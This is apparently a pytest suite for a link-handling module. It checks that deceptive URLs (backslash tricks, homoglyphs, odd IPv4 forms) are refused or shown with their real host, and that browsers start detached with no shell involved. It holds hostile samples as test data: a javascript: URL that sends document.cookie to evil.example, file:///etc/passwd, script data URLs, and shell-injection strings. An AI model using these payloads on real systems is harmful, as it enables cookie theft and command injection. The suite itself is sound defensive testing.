"""reader.links: reading links as browsers do, showing their real host, and starting browsers safely."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reader import links
from reader.links import (
    Browser,
    BrowserKind,
    Outcome,
    clipboard_text,
    find_browser,
    launch_detached,
    open_link,
    parse_link,
    run_in_terminal,
)
from reader.text import MAX_URL_CHARS, identity_url, safe_url

# --- deceptive links: the host shown is the host the browser opens ----------------------------


@pytest.mark.parametrize(
    "raw",
    [
        "https://evil.example\\@good.example/",  # browsers: evil.example; urlsplit: good.example
        "https://evil.example\\.good.example/",
        "https://evil.example\\",
        "https:\\\\evil.example/",
        "https:/\\evil.example/",
        "https://\\evil.example/",
        "https:evil.example/",  # browsers repair these three to https://evil.example/
        "https:/evil.example/",
        "https:///evil.example/",
    ],
)
def test_backslashes_and_missing_slashes_in_the_authority_are_refused(raw):
    assert parse_link(raw) is None
    assert safe_url(raw) is None


@pytest.mark.parametrize(
    "raw",
    [
        "https://good.example@evil.example/",
        "https://good.example:443@evil.example/",
        "https://user:password@good.example/",
        "https://@good.example/",
        "https://a@b@evil.example/",
    ],
)
def test_credentials_are_refused_and_never_shown_as_the_host(raw):
    assert parse_link(raw) is None
    assert safe_url(raw) is None


def test_a_backslash_in_the_path_is_a_slash_and_changes_nothing_about_the_host():
    link = parse_link("https://evil.example/\\@good.example/")
    assert link is not None
    assert link.host == "evil.example"
    assert link.url == "https://evil.example//@good.example/"


def test_a_cyrillic_look_alike_is_shown_in_punycode_only():
    link = parse_link("https://\u0430pple.com/login")  # Cyrillic а, then Latin
    assert link is not None
    assert link.host == "xn--pple-43d.com"
    assert link.host_label == "xn--pple-43d.com"
    assert link.url == "https://xn--pple-43d.com/login"


def test_an_all_cyrillic_look_alike_under_a_latin_domain_is_shown_in_punycode_only():
    link = parse_link("https://\u0430\u0440\u0440\u04cf\u0435.com/")  # аррӏе.com
    assert link is not None
    assert link.host_label == link.host == "xn--80ak6aa92e.com"


def test_a_look_alike_written_in_punycode_is_not_decoded_for_display():
    link = parse_link("https://xn--pple-43d.com/")
    assert link is not None
    assert link.host_label == "xn--pple-43d.com"


@pytest.mark.parametrize(
    ("raw", "host", "label"),
    [
        ("https://bücher.de/", "xn--bcher-kva.de", "bücher.de (xn--bcher-kva.de)"),
        ("https://BÜCHER.DE/", "xn--bcher-kva.de", "bücher.de (xn--bcher-kva.de)"),
        ("https://xn--bcher-kva.de/", "xn--bcher-kva.de", "bücher.de (xn--bcher-kva.de)"),
        # Non-transitional, as browsers: ß stays ß (IDNA 2003 would go to fass.de).
        ("https://faß.de/", "xn--fa-hia.de", "faß.de (xn--fa-hia.de)"),
        ("https://пример.рф/", "xn--e1afmkfd.xn--p1ai", "пример.рф (xn--e1afmkfd.xn--p1ai)"),
        ("https://例え.jp/", "xn--r8jz45g.jp", "例え.jp (xn--r8jz45g.jp)"),  # Han + Hiragana + Latin: Japanese
        ("https://%c3%bc.de/", "xn--tda.de", "ü.de (xn--tda.de)"),  # percent-encoded UTF-8
        ("https://münchen.ελ/", "xn--mnchen-3ya.xn--qxam", "xn--mnchen-3ya.xn--qxam"),  # Latin + Greek
    ],
)
def test_an_international_host_is_punycode_with_its_unicode_form_beside_it_when_in_one_script(raw, host, label):
    link = parse_link(raw)
    assert link is not None
    assert link.host == host
    assert link.host_label == label
    assert urlsplit(link.url).hostname == host


@pytest.mark.parametrize(
    ("raw", "host"),
    [
        ("https://%65vil.example/", "evil.example"),
        ("https://%45VIL.example/", "evil.example"),
        ("https://evil%2Eexample/", "evil.example"),
        ("https://ｅｖｉｌ.ｅｘａｍｐｌｅ/", "evil.example"),  # full-width letters
        ("https://ｅｖｉｌ．ｅｘａｍｐｌｅ/", "evil.example"),  # and a full-width full stop
        ("https://evil。example/", "evil.example"),  # ideographic full stop
        ("https://EVIL.Example/", "evil.example"),
        ("https://evil.example./", "evil.example."),
    ],
)
def test_a_host_is_shown_as_the_browser_reads_it_not_as_written(raw, host):
    link = parse_link(raw)
    assert link is not None
    assert link.host == link.host_label == host
    assert link.url == f"https://{host}/"


@pytest.mark.parametrize(
    "raw",
    [
        "https://%00evil.example/",
        "https://evil%2Fexample/",  # a slash, once decoded
        "https://evil%40good.example/",  # an @, once decoded
        "https://%ff.example/",  # not UTF-8
        "https://xn--zz.example/",  # not valid punycode
        "https://ex\u00adample.com/",  # soft hyphen: invisible
        "https://exa\u200bmple.com/",  # zero-width space
        "https://i\u2764.ws/",  # emoji: browsers take it, IDNA 2008 does not: refusing is safe
        "https://a b.example/",
        "https://a<b.example/",
        "https://[::1/",
        "https://[::1]x/",
        "https://[::1%25eth0]/",
        "https://[1:2:3:4:5:6:7:8:9]/",
        "https://[::1.2.3.04]/",
        "https://[1.2.3.4]/",
        "https:///",
        "https://",
        "https://:443/",
    ],
)
def test_hosts_a_browser_would_refuse_or_that_hide_something_are_refused(raw):
    assert parse_link(raw) is None
    assert safe_url(raw) is None


@pytest.mark.parametrize(
    "raw",
    [
        "http://0x7f.1/",
        "http://2130706433/",
        "http://017700000001/",
        "http://0x7f000001/",
        "http://127.1/",
        "http://127.0.1/",
        "http://0177.0.0.01/",
        "http://0x7F.0.0.1./",
        "http://１２７.０.０.１/",
        "http://%31%32%37.0.0.1/",
    ],
)
def test_ipv4_in_odd_forms_is_normalised(raw):
    link = parse_link(raw)
    assert link is not None
    assert link.host == link.host_label == "127.0.0.1"
    assert link.url == "http://127.0.0.1/"


@pytest.mark.parametrize(
    "raw",
    ["http://1.2.3.999/", "http://1.2.3.4.5/", "http://256.256.256.256/", "http://foo.09/", "http://0x100000000/"],
)
def test_hosts_that_end_in_a_number_but_are_no_ipv4_address_are_refused(raw):
    assert parse_link(raw) is None


@pytest.mark.parametrize(
    ("raw", "host"),
    [
        ("https://[2001:DB8::1]/", "[2001:db8::1]"),
        ("https://[2001:db8:0:0:0:0:0:1]/", "[2001:db8::1]"),
        ("https://[1:0:0:2:0:0:0:3]/", "[1:0:0:2::3]"),
        ("https://[::FFFF:1.2.3.4]/", "[::ffff:102:304]"),
        ("https://[::]/", "[::]"),
    ],
)
def test_ipv6_is_written_as_browsers_write_it(raw, host):
    link = parse_link(raw)
    assert link is not None
    assert link.host == host
    assert urlsplit(link.url).hostname == host.strip("[]")


@pytest.mark.parametrize(
    "raw",
    [
        "https://exa\tmple.com/",
        "https://example.com\n.evil.example/",
        "https://evil.example\t@good.example/",
        "https://example.com/a\nb",
        "https://example.com/\ra",
        "ht\ttps://example.com/",
        "https://example.com/\u202egnp.exe",
        "https://example.com/\x1b[2J",
    ],
)
def test_tabs_newlines_and_controls_inside_a_link_refuse_it(raw):
    # Browsers drop tabs and newlines silently; a link that needs that is not trusted.
    assert parse_link(raw) is None
    assert safe_url(raw) is None


def test_surrounding_whitespace_is_trimmed():
    link = parse_link("  https://example.com/a \n")
    assert link is not None
    assert link.url == "https://example.com/a"


@pytest.mark.parametrize(
    "raw",
    [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        " javascript:alert(document.cookie)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "file:///etc/passwd",
        "FILE://localhost/etc/passwd",
        "vbscript:msgbox",
        "ftp://example.com/",
        "blob:https://example.com/1",
        "view-source:https://example.com/",
        "//example.com/",
        "example.com",
    ],
)
def test_only_http_and_https_are_links(raw):
    assert parse_link(raw) is None
    assert clipboard_text(raw) is None


def test_an_uppercase_scheme_is_lowercased():
    link = parse_link("HTTPS://EXAMPLE.COM/Path?Q=A#F")
    assert link is not None
    assert (link.scheme, link.host, link.url) == ("https", "example.com", "https://example.com/Path?Q=A#F")


@pytest.mark.parametrize(
    ("raw", "port", "url"),
    [
        ("https://example.com:8443/a", 8443, "https://example.com:8443/a"),
        ("https://example.com:443/a", None, "https://example.com/a"),
        ("http://example.com:80/a", None, "http://example.com/a"),
        ("http://example.com:443/a", 443, "http://example.com:443/a"),
        ("http://example.com:0080/a", None, "http://example.com/a"),
        ("https://example.com:/a", None, "https://example.com/a"),
        ("https://[::1]:8080/", 8080, "https://[::1]:8080/"),
    ],
)
def test_a_port_is_kept_unless_it_is_the_default(raw, port, url):
    link = parse_link(raw)
    assert link is not None
    assert (link.port, link.url) == (port, url)
    assert urlsplit(link.url).port == port


@pytest.mark.parametrize("raw", ["https://example.com:65536/", "https://example.com:8a/", "https://example.com:1:2/"])
def test_a_bad_port_is_refused(raw):
    assert parse_link(raw) is None


@pytest.mark.parametrize(
    ("raw", "url"),
    [
        ("https://example.com", "https://example.com/"),
        ("https://example.com?q", "https://example.com/?q"),
        ("https://example.com/a/./b/../c", "https://example.com/a/c"),
        ("https://example.com/a/%2e%2E/b", "https://example.com/b"),
        ("https://example.com/../../etc", "https://example.com/etc"),
        ("https://example.com/a/..", "https://example.com/"),
        ("https://example.com/a\\b", "https://example.com/a/b"),
        ("https://example.com/é?é#é", "https://example.com/%C3%A9?%C3%A9#%C3%A9"),
        (
            'https://example.com/<">`{}^?\'"<>#"<>`',
            "https://example.com/%3C%22%3E%60%7B%7D%5E?%27%22%3C%3E#%22%3C%3E%60",
        ),
        ("https://example.com/%zz%41", "https://example.com/%zz%41"),
    ],
)
def test_the_path_query_and_fragment_are_normalised_as_a_browser_requests_them(raw, url):
    link = parse_link(raw)
    assert link is not None
    assert link.url == url


def test_a_link_that_grows_past_the_limit_when_normalised_is_refused():
    raw = "https://example.com/" + "é" * (MAX_URL_CHARS // 2)  # under the limit as written, 6x once encoded
    assert len(raw) <= MAX_URL_CHARS
    assert parse_link(raw) is None
    assert safe_url(raw) is None


def test_one_address_spelled_two_ways_is_one_story():
    assert identity_url("https://bücher.de/a/") == identity_url("https://xn--bcher-kva.de/a")
    assert identity_url(safe_url("https://%65vil.example/x/../a")) == identity_url("https://evil.example/a")


def test_clipboard_text_is_the_normalised_url():
    assert clipboard_text("https://bücher.de/ä") == "https://xn--bcher-kva.de/%C3%A4"
    assert clipboard_text(None) is None


# Pieces that make URL-like text more often than st.text() alone does.
# fmt: off
_SCHEMES = st.sampled_from(["http://", "https://", "HTTPS://", "http:", "https:\\\\", "javascript:", "file://", ""])
_URL_PIECES = st.lists(
    st.sampled_from(
        [*"aZ09.:/?#[]%@\\-_~!$&'()*+,;=^`{}|\"<> \t\n\x00\x1b\x7f",
         "ü", "а", "ｅ", "。", "ß", "١", "é", "\u200b", "\u202e", "\u0085", "\ue085", "%2e", "%41", "%c3%bc", "xn--",
         "0x", "::", "255", "例", "ᾹΊ", "\ufeff", "\ud800"]
    ),
    max_size=30,
).map("".join)
# And links that are mostly well-formed, so that many are accepted and checked.
_HOSTS = st.sampled_from(
    ["example.com", "EXAMPLE.com", "a..b", "a.b.", "bücher.de", "ｅｘａｍｐｌｅ.com", "аpple.com", "пример.рф", "例え.jp",
     "%65vil.example", "%c3%bc.de", "0x7f.1", "2130706433", "1.2.3.4", "foo.0x1", "[::1]", "[::FFFF:1.2.3.4]",
     "[1:0:0:2:0:0:0:3]", "xn--bcher-kva.de", "a_b.com", "-a-.com", "localhost", "x"]
)
_WELL_FORMED = st.builds(
    "{}{}{}{}".format,
    st.sampled_from(["http://", "https://", "HTTPS://"]),
    _HOSTS,
    st.sampled_from(["", ":", ":80", ":443", ":8080", ":0080"]),
    st.lists(st.sampled_from(["/", "a", ".", "..", "%2e", "é", "\\", "'", '"', "<", "`", "{", "^", "|", "[", "%", "?", "#"]),
             max_size=12).map("".join),
)
# fmt: on


@settings(max_examples=2000, deadline=None)
@given(raw=st.one_of(st.text(max_size=40), st.builds(str.__add__, _SCHEMES, _URL_PIECES), _WELL_FORMED))
def test_any_text_is_refused_or_gives_a_link_whose_url_has_the_host_it_shows(raw):
    link = parse_link(raw)
    normal = safe_url(raw)
    if link is None:
        assert normal is None  # safe_url never keeps what parse_link refuses
        return
    assert normal == link.url
    assert link.scheme in ("http", "https")
    assert link.url.isascii() and link.url.isprintable() and " " not in link.url
    parts = urlsplit(link.url)
    assert parts.scheme == link.scheme
    assert parts.hostname == link.host.strip("[]")
    assert parts.port == link.port
    assert parts.username is None and parts.password is None
    assert link.host in link.host_label
    assert link.host_label.isprintable()
    assert parse_link(link.url) == link  # the normal form is a fixed point
    assert len(link.url) <= MAX_URL_CHARS


# --- browsers: found as webbrowser would, started detached ---------------------------------------

STUB = """#!{python}
# A browser stand-in: says where it runs, makes noise on stdout and stderr, then takes its time.
import json, os, sys, time
print("browser chatter on stdout", flush=True)
print("browser chatter on stderr", file=sys.stderr, flush=True)
try:
    stdin = sys.stdin.read()
except OSError:
    stdin = None
record = {{
    "argv": sys.argv[1:],
    "pid": os.getpid(),
    "sid": os.getsid(0),
    "stdin": stdin,
    "stdout": os.path.realpath("/proc/self/fd/1") if os.path.exists("/proc/self/fd/1") else None,
}}
with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), sys.argv[0].rsplit("/", 1)[-1] + ".json.tmp"), "w") as out:
    json.dump(record, out)
os.replace(out.name, out.name[: -len(".tmp")])
time.sleep({sleep})
"""


def make_stub(folder: Path, name: str, sleep: float = 0) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(STUB.format(python=sys.executable, sleep=sleep), encoding="utf-8")
    path.chmod(0o755)
    return path


def stub_record(stub: Path, timeout: float = 10) -> dict:
    """What the stub wrote about its run, once it has."""
    record = stub.with_name(stub.name + ".json")
    deadline = time.monotonic() + timeout
    while not record.exists():
        assert time.monotonic() < deadline, f"{stub.name} never ran"
        time.sleep(0.02)
    return json.loads(record.read_text(encoding="utf-8"))


def end_stub(record: dict) -> None:
    """End a stub this test started, by its id (it leads its own process group)."""
    with contextlib.suppress(ProcessLookupError):
        os.killpg(record["pid"], signal.SIGTERM)


@pytest.fixture
def bin_dir(tmp_path: Path) -> Path:
    folder = tmp_path / "bin"
    folder.mkdir()
    return folder


def desktop(bin_dir: Path, **variables: str) -> dict[str, str]:
    """An environment with a display and only bin_dir on PATH."""
    return {"PATH": str(bin_dir), "DISPLAY": ":0", **variables}


def console(bin_dir: Path, **variables: str) -> dict[str, str]:
    """An environment with no display (a console, or SSH)."""
    return {"PATH": str(bin_dir), **variables}


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX sessions and /proc")
def test_a_slow_noisy_browser_neither_blocks_nor_writes_to_our_terminal(bin_dir, capfd):
    stub = make_stub(bin_dir, "slowbrowser", sleep=8)
    started = time.monotonic()
    opening = open_link("https://example.com/a", environ=desktop(bin_dir, BROWSER=str(stub)))
    elapsed = time.monotonic() - started
    record = stub_record(stub)
    try:
        assert opening.outcome is Outcome.STARTED
        assert elapsed < 0.5, f"open_link waited {elapsed:.2f} s for the browser"
        assert record["argv"] == ["https://example.com/a"]
        assert record["sid"] == record["pid"]  # a session of its own: our Ctrl+C does not reach it
        assert record["stdin"] == ""  # /dev/null: it cannot read our keys
        if record["stdout"] is not None:
            assert record["stdout"] == os.devnull
        captured = capfd.readouterr()
        assert captured.out == "" and captured.err == ""
    finally:
        end_stub(record)


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX processes")
def test_a_detached_browser_is_reaped_when_it_ends(bin_dir):
    stub = make_stub(bin_dir, "quickbrowser")
    process = launch_detached([str(stub), "https://example.com/"])
    deadline = time.monotonic() + 10
    while process.returncode is None:  # set by the reaping thread, not by us
        assert time.monotonic() < deadline, "the browser process was never reaped"
        time.sleep(0.02)
    assert process.returncode == 0


HOSTILE_ARGUMENTS = [
    "https://example.com/;touch {marker};",
    "https://example.com/$(touch {marker})",
    "https://example.com/`touch {marker}`",
    "https://example.com/'; touch {marker}; '",
    'https://example.com/"; touch {marker}; "',
    "https://example.com/ && touch {marker} | cat > {marker} &",
]


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX processes")
@pytest.mark.parametrize("argument", HOSTILE_ARGUMENTS)
def test_launch_passes_the_url_as_one_argument_and_no_shell_reads_it(bin_dir, tmp_path, argument):
    marker = tmp_path / "pwned"
    argument = argument.format(marker=marker)
    stub = make_stub(bin_dir, "browser")
    launch_detached([str(stub), argument])
    record = stub_record(stub)
    assert record["argv"] == [argument]
    assert not marker.exists()


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX processes")
@pytest.mark.parametrize("template", ["{stub}", "{stub} --new-tab %s", "'{stub}' --url=%s &"])
def test_open_link_hands_the_normalised_url_through_browser_templates_unchanged(bin_dir, tmp_path, template):
    marker = tmp_path / "pwned"
    raw = f"https://example.com/a;b$(touch${{IFS}}{marker})'c'`touch${{IFS}}{marker}`?q=$(id)&r=\"x\"#f;g"
    link = parse_link(raw)
    assert link is not None
    stub = make_stub(bin_dir, "browser")
    opening = open_link(raw, environ=desktop(bin_dir, BROWSER=template.format(stub=stub)))
    record = stub_record(stub)
    assert opening.outcome is Outcome.STARTED
    expected = {"{stub}": [link.url], "{stub} --new-tab %s": ["--new-tab", link.url]}.get(
        template, [f"--url={link.url}"]
    )
    assert record["argv"] == expected
    assert all(part in link.url for part in (";", "$(", "$(id)", "'c'", "&"))  # the metacharacters are really there
    assert not marker.exists()


@pytest.mark.parametrize(
    "raw",
    [
        "file:///etc/passwd",
        "javascript:alert(1)",
        "JavaScript:fetch('https://evil.example/'+document.cookie)",
        "data:text/html,<script>alert(1)</script>",
        "https://evil.example\\@good.example/",
    ],
)
def test_a_link_that_may_not_be_opened_never_reaches_a_launcher(bin_dir, monkeypatch, raw):
    calls = []
    monkeypatch.setattr(links, "launch_detached", lambda argv: calls.append(argv))
    monkeypatch.setattr(links.subprocess, "Popen", lambda *args, **kwargs: calls.append(args))
    monkeypatch.setattr(links.subprocess, "run", lambda *args, **kwargs: calls.append(args))
    stub = make_stub(bin_dir, "browser")
    for environ in (desktop(bin_dir, BROWSER=str(stub)), console(bin_dir, BROWSER=str(stub))):
        opening = open_link(raw, environ=environ)
        assert opening.outcome is Outcome.REFUSED
        assert opening.argv == () and opening.copy_text is None
        assert opening.message == "Only http and https links are opened."
    assert calls == []
    assert not stub.with_name("browser.json").exists()


def test_no_link_at_all_is_said_so():
    for raw in (None, "", "   "):
        opening = open_link(raw, environ={})
        assert opening.outcome is Outcome.NO_LINK
        assert opening.message == "There is no link to open."


def test_browser_with_percent_s_puts_the_url_in_its_place(bin_dir):
    stub = make_stub(bin_dir, "mybrowser")
    browser = find_browser(desktop(bin_dir, BROWSER="mybrowser --new-window --url=%s --flag"), "linux")
    assert browser == Browser((str(stub), "--new-window", "--url=%s", "--flag"), BrowserKind.GUI)
    assert browser.argv("https://example.com/") == [str(stub), "--new-window", "--url=https://example.com/", "--flag"]


def test_browser_without_percent_s_gets_the_url_last(bin_dir):
    stub = make_stub(bin_dir, "mybrowser")
    browser = find_browser(desktop(bin_dir, BROWSER="mybrowser"), "linux")
    assert browser is not None
    assert browser.argv("https://example.com/") == [str(stub), "https://example.com/"]


def test_browser_entries_are_tried_in_order_and_missing_commands_skipped(bin_dir):
    first = make_stub(bin_dir, "first")
    make_stub(bin_dir, "second")
    variable = os.pathsep.join(["", "missing-browser", "missing-too %s", "'unbalanced", "first", "second"])
    browser = find_browser(desktop(bin_dir, BROWSER=variable), "linux")
    assert browser is not None and browser.command == (str(first),)


def test_browser_naming_only_missing_commands_falls_back_to_the_desktop(bin_dir):
    xdg_open = make_stub(bin_dir, "xdg-open")
    browser = find_browser(desktop(bin_dir, BROWSER="missing-browser"), "linux")
    assert browser == Browser((str(xdg_open),), BrowserKind.GUI)
    assert find_browser(console(bin_dir, BROWSER="missing-browser"), "linux") is None


def test_a_full_path_with_spaces_is_one_program(tmp_path):
    folder = tmp_path / "My Browsers"
    stub = make_stub(folder, "browser")
    browser = find_browser(desktop(tmp_path, BROWSER=str(stub)), "linux")
    assert browser is not None and browser.command == (str(stub),)


@pytest.mark.parametrize("name", ["lynx", "w3m", "links", "elinks", "browsh", "www-browser"])
def test_a_text_browser_is_a_terminal_browser_even_with_a_display(bin_dir, name):
    make_stub(bin_dir, name)
    browser = find_browser(desktop(bin_dir, BROWSER=name), "linux")
    assert browser is not None and browser.kind is BrowserKind.TERMINAL


def test_a_name_that_links_to_a_text_browser_is_a_terminal_browser(bin_dir):
    lynx = make_stub(bin_dir, "lynx")
    (bin_dir / "browser").symlink_to(lynx)
    browser = find_browser(desktop(bin_dir, BROWSER="browser"), "linux")
    assert browser is not None and browser.kind is BrowserKind.TERMINAL


def test_without_a_display_any_browser_command_can_only_use_this_terminal(bin_dir):
    make_stub(bin_dir, "firefox")
    browser = find_browser(console(bin_dir, BROWSER="firefox"), "linux")
    assert browser is not None and browser.kind is BrowserKind.TERMINAL


def test_over_ssh_a_text_browser_on_path_is_not_picked_unasked(bin_dir):
    for name in ("lynx", "w3m", "www-browser", "xdg-open"):
        make_stub(bin_dir, name)
    assert find_browser(console(bin_dir), "linux") is None
    opening = open_link("https://example.com/", environ=console(bin_dir))
    assert opening.outcome is Outcome.NO_BROWSER
    assert opening.copy_text == "https://example.com/"
    assert opening.title == "No browser here: link copied"


@pytest.mark.parametrize("variable", ["DISPLAY", "WAYLAND_DISPLAY"])
def test_with_a_display_the_desktop_launcher_is_used(bin_dir, variable):
    xdg_open = make_stub(bin_dir, "xdg-open")
    make_stub(bin_dir, "firefox")
    browser = find_browser({"PATH": str(bin_dir), variable: ":0"}, "linux")
    assert browser == Browser((str(xdg_open),), BrowserKind.GUI)


def test_macos_opens_with_open_except_over_ssh(bin_dir):
    open_command = make_stub(bin_dir, "open")
    assert find_browser(console(bin_dir), "darwin") == Browser((str(open_command),), BrowserKind.GUI)
    assert find_browser(console(bin_dir, SSH_CONNECTION="10.0.0.1 1 10.0.0.2 22"), "darwin") is None


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX processes")
def test_a_terminal_browser_is_handed_back_to_run_in_the_foreground(bin_dir):
    lynx = make_stub(bin_dir, "lynx")
    opening = open_link("https://bücher.de/", environ=console(bin_dir, BROWSER="lynx"))
    assert opening.outcome is Outcome.RUN_IN_TERMINAL
    assert opening.argv == (str(lynx), "https://xn--bcher-kva.de/")
    time.sleep(0.3)
    assert not lynx.with_name("lynx.json").exists()  # nothing was started behind the app's back
    assert run_in_terminal(opening.argv) is None  # the UI does this inside app.suspend()
    assert lynx.with_name("lynx.json").exists()  # and it ran to the end before returning


def test_run_in_terminal_says_why_a_browser_could_not_start(tmp_path):
    error = run_in_terminal([str(tmp_path / "no-such-browser"), "https://example.com/"])
    assert error is not None and error.startswith("no-such-browser: ")


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX processes")
def test_a_browser_that_cannot_start_is_reported_and_the_link_copied(bin_dir):
    broken = bin_dir / "broken"
    broken.write_text("#!/nonexistent/interpreter\n", encoding="utf-8")
    broken.chmod(0o755)
    opening = open_link("https://example.com/", environ=desktop(bin_dir, BROWSER="broken"))
    assert opening.outcome is Outcome.FAILED
    assert opening.copy_text == "https://example.com/"
    assert opening.error.startswith("broken: ")
    assert opening.severity == "error"


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX processes")
def test_open_link_works_off_the_ui_thread(bin_dir):
    stub = make_stub(bin_dir, "browser", sleep=8)
    with ThreadPoolExecutor(1) as pool:
        opening = pool.submit(open_link, "https://example.com/", desktop(bin_dir, BROWSER=str(stub))).result(timeout=5)
    record = stub_record(stub)
    end_stub(record)
    assert opening.outcome is Outcome.STARTED
    assert record["argv"] == ["https://example.com/"]


def test_browser_terminal_says_whether_it_needs_the_terminal(bin_dir):
    make_stub(bin_dir, "w3m")
    make_stub(bin_dir, "xdg-open")
    assert find_browser(desktop(bin_dir, BROWSER="w3m"), "linux").terminal
    assert not find_browser(desktop(bin_dir), "linux").terminal
